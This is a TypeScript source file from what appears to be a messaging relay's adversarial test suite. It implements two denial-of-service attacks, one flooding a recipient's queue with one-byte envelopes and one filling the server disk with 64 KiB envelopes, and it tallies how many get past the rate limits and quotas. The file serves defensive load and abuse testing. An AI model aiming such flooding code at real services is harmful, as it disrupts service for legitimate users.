/**
 * Attack 7 (issue 18 item 7): anyone could fill anyone's queue (10,000 one-byte envelopes in
 * 0.3 s, after which real senders got `quota_exceeded`) and the disk (32 MB/s from one socket).
 *  - tiny: 4 attacker devices (one socket each) send the legitimate recipient batches of 100
 *    one-byte durable envelopes, as many send events as the relay takes;
 *  - disk: one attacker socket sends batches of 100 × 64 KiB durable envelopes round-robin to 8
 *    accounts of its own (offline: everything stays on disk) and to the legitimate recipient,
 *    bounded in bytes sent.
 */
import { randomBytes } from 'node:crypto';
import type { SendAck } from '../../protocol/events.js';
import { connect, emitWithAck, errorText, flood, randomId, ready, register, sleep, Tally, type ClientSocket } from './client.js';
import type { AttackOutcome, AttackParams } from './types.js';

const BATCH = 100;

async function sendBatch(socket: ClientSocket, envelopes: { to: string; id: string; body: Uint8Array }[], tally: Tally): Promise<void> {
  try {
    const ack = await emitWithAck<SendAck>(socket, 'send', envelopes, 30_000);
    if (!ack.ok) {
      tally.add(`batch refused ${ack.error.code}`);
      return;
    }
    tally.add('envelope accepted', envelopes.length - ack.failed.length);
    for (const f of ack.failed) tally.add(`envelope refused ${f.error.code}`);
  } catch (error) {
    tally.add(`batch ${errorText(error)}`);
    await sleep(100);
  }
}

export async function queueFillTiny(p: AttackParams): Promise<AttackOutcome> {
  await ready();
  const senders = await Promise.all(Array.from({ length: 4 }, () => register(p.url, 'tiny')));
  const sockets = await Promise.all(senders.map((d) => connect(p.url, d)));
  const tally = new Tally();
  const started = performance.now();
  const until = started + p.durationMs;
  const one = new Uint8Array([0x2a]);
  const sends = await flood(8, until, 50_000, (i) =>
    sendBatch(sockets[i % sockets.length]!, Array.from({ length: BATCH }, () => ({ to: p.bobId, id: randomId(), body: one })), tally),
  );
  const seconds = (performance.now() - started) / 1000;
  for (const s of sockets) s.close();
  const attempted = sends * BATCH;
  return {
    summary:
      `4 senders → the legit recipient, ${attempted} one-byte envelopes (${Math.round(attempted / seconds)}/s): ${tally.get('envelope accepted')} queued, ` +
      `${tally.get('envelope refused rate_limited')} refused rate_limited, ${tally.get('envelope refused quota_exceeded')} quota_exceeded, ${tally.sum('batch refused')} batches refused`,
    counts: tally.counts,
    details: { attempted, seconds },
  };
}

const DISK_BODY = 64 * 1024;
const MAX_DISK_BYTES_SENT = 2 * 1024 ** 3;

export async function diskFill(p: AttackParams): Promise<AttackOutcome> {
  await ready();
  const sender = await register(p.url, 'disk');
  const sinks = await Promise.all(Array.from({ length: 8 }, () => register(p.url, 'sink')));
  const targets = [...sinks.map((s) => s.id), p.bobId];
  const socket = await connect(p.url, sender, { timeoutMs: 10_000 });
  const tally = new Tally();
  const body = new Uint8Array(randomBytes(DISK_BODY));
  const started = performance.now();
  const until = started + p.durationMs;
  const sends = await flood(4, until, MAX_DISK_BYTES_SENT / (BATCH * DISK_BODY), (i) =>
    sendBatch(socket, Array.from({ length: BATCH }, () => ({ to: targets[i % targets.length]!, id: randomId(), body })), tally),
  );
  const seconds = (performance.now() - started) / 1000;
  socket.close();
  const sentMB = (sends * BATCH * DISK_BODY) / 1e6;
  const storedMB = (tally.get('envelope accepted') * DISK_BODY) / 1e6;
  return {
    summary:
      `1 socket, ${sentMB.toFixed(0)} MB of 64 KiB envelopes to 9 devices (${(sentMB / seconds).toFixed(0)} MB/s): ${tally.get('envelope accepted')} stored (${storedMB.toFixed(0)} MB, ` +
      `${(storedMB / seconds).toFixed(1)} MB/s), ${tally.get('envelope refused rate_limited')} refused rate_limited, ${tally.get('envelope refused quota_exceeded')} quota_exceeded, ${tally.sum('batch refused')} batches refused`,
    counts: tally.counts,
    details: { sentBytes: sends * BATCH * DISK_BODY, storedBytes: tally.get('envelope accepted') * DISK_BODY, seconds },
  };
}
